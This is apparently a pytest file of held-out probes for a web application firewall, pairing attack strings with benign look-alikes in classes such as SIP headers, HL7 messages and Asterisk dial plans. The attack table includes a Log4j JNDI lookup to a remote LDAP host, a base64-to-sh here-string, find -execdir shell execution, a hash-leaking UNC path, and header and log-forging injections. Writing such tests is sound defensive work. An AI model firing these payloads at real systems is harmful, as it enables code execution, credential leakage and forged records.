"""WAF, part 2s: held-out probes, seventeenth file (README: the
twenty-eighth round), written for this file on 2026-12-05 after the
round's two new held-out corpora (tests/corpus/hospitality/,
tests/corpus/telecom/) were first replayed, for the classes they showed.
No string is taken from a corpus or a public list: each class is written
here in shapes of our own, through the real edge (shipped config, bans
off).

Look-alikes that must pass, by class:
- find-exec: a manual's "-exec command ;" line with its description after
  it (the bare ";" counts at the value's end only);
- type-only: legacy Extended JSON's binary value ("$binary" with its
  "$type");
- match-all-first: an OR of two prefixes ("sku:12* OR sku:13*");
- private-host-port: a time of day ("10:30");
- sip-header: a sentence that names a SIP header;
- ami-action: a report's "Action:" line;
- ndjson: JSON records pasted whole, one per line;
- lone-cr: an HL7 message (segments end with a CR);
- here-string-prose: "<<<" for "far less than" after a word that is also
  a command, in a sentence;
- nested-lookup: an Asterisk dial plan's function in a function;
- tmp-depth: an application's tmp directory named in a sentence;
- audit-record (in a JSON note): a dated record that reports a problem
  after a sentence (a line pasted to show it);
- unc-host: shares on a LAN's named servers (one label, or under .local).

Attacks that must be refused, by class:
- find-exec: find's -execdir with a bare ";" at the end (an argument
  list handed to find itself);
- type-only: a $type alone on a field (what every document has);
- match-all-first: a field's match-all OR'ed first;
- private-host-port: a private address and its port as the whole value;
- sip-header: a SIP identity header after a line break;
- ami-action: Asterisk's manager action after a blank line;
- ndjson: a JSON record closed by the value and one of its own after it;
- lone-cr: a carriage return alone, then text over the line;
- here-string-prose: a here-string fed to base64, piped to sh;
- nested-lookup: Log4j's nested lookup right after "${";
- tmp-depth: tcpdump's -z given a script in an application's tmp
  directory;
- audit-record: after a sentence and a typed line break, a dated record
  that names who acted and reports no problem (a forged audit line; the
  JSON note's typed break counted before only after one token);
- unc-host: a UNC path to a host under a public zone (Windows asks DNS
  and sends the service account's hash wherever it points).

Measured before the change (2026-12-05, on 3356995): see the commit
message. After it: every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

import pytest

from wafkit import (WafEdge, assert_passes_everywhere,  # noqa: F401
                    assert_refused_everywhere, assert_tables_balanced,
                    probe_cases, probe_placements, session, waf_config)

CONF = waf_config()

ATTACKS = {
    "find-exec": ["*.log -execdir sh -c uname {} ;"],
    "type-only": ["{\"otp\": {\"$type\": \"string\"}}"],
    "match-all-first": ["sku:* OR tier:gold"],
    "private-host-port": ["172.16.4.9:8500"],
    "sip-header": ["Reception\r\nP-Preferred-Identity: <sip:+4420794601@voice.example>"],
    "ami-action": ["200\r\n\r\nAction: Command\r\nCommand: core show channels"],
    "ndjson": ["fine\"}\n{\"msg\":\"password reset by root\",\"level\":\"warn\"}"],
    "lone-cr": ["ok\rDONE: refund approved"],
    "here-string-prose": ["base64 -d <<< dW5hbWU= | sh"],
    "nested-lookup": ["${${lower:j}ndi:ldap://198.51.100.2/a}"],
    "tmp-depth": ["-z /srv/app/tmp/u1.sh dump.pcap"],
    "audit-record": ["Noted, thanks\n2025-02-03 08:00:00 INFO user=ops2 action=export_all "
                     "result=ok"],
    "unc-host": ["\\\\media.example.org\\drop\\menu.pdf"],
}

BENIGN = {
    "find-exec": ["-exec command ;\n   Run it on each file found."],
    "type-only": ["{\"blob\": {\"$binary\": \"AAEC\", \"$type\": \"00\"}}"],
    "match-all-first": ["sku:12* OR sku:13*"],
    "private-host-port": ["10:30"],
    "sip-header": ["P-Asserted-Identity is set by the proxy, not the phone"],
    "ami-action": ["Notes for bay 2\nAction: restack pallets\nOwner: Sam"],
    "ndjson": ["{\"msg\":\"up\",\"level\":\"info\"}\n{\"msg\":\"retry\",\"level\":\"error\"}"],
    "lone-cr": ["MSH|^~\\&|RIS|CLINIC|PACS|CLINIC|2025||ORM^O01|X9|P|2.4\r"
                "PID|1||777^^^CLINIC||ROE^SAM"],
    "here-string-prose": ["Parking was easy, wait <<< what they promised"],
    "nested-lookup": ["Set(N=${LEN(${EXTEN})})"],
    "tmp-depth": ["Logs are in /srv/app/tmp/ and rotate daily"],
    "unc-host": ["\\\\printsrv02\\labels\\dock4", "\\\\fs02.corp.local\\plans\\q3.xlsx"],
}

# (a look-alike that passes in a JSON note only: in a query value a dated
# line with a level word or key=value fields after a line break is
# refused whatever it reports, edge.waf.detect.protocol's RE_CRLF)
JSON_BENIGN = {
    "audit-record": ["Still broken after the patch\n2025-02-03 08:00:00 ERROR user=ops2 "
                     "action=export timeout"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES)
BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)
JSON_BENIGN_CASES = probe_cases(JSON_BENIGN, KNOWN_FALSE_POSITIVES)


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-heldout-r17"), CONF).start()
    yield e
    e.stop()


def test_tables_are_balanced():
    # every class has attacks and look-alikes, and none is both
    assert_tables_balanced(ATTACKS, {**BENIGN, **JSON_BENIGN})


@pytest.mark.parametrize("cls,value", ATTACK_CASES)
def test_heldout_r17_attack_refused_everywhere(edge, session, cls, value):
    got = probe_placements(session, edge, value)
    assert_refused_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", BENIGN_CASES)
def test_heldout_r17_benign_passes(edge, session, cls, value):
    got = probe_placements(session, edge, value)
    assert_passes_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", JSON_BENIGN_CASES)
def test_heldout_r17_benign_passes_in_a_json_note(edge, session, cls, value):
    got = probe_placements(session, edge, value)
    assert_passes_everywhere({"json": got["json"]}, cls, value)
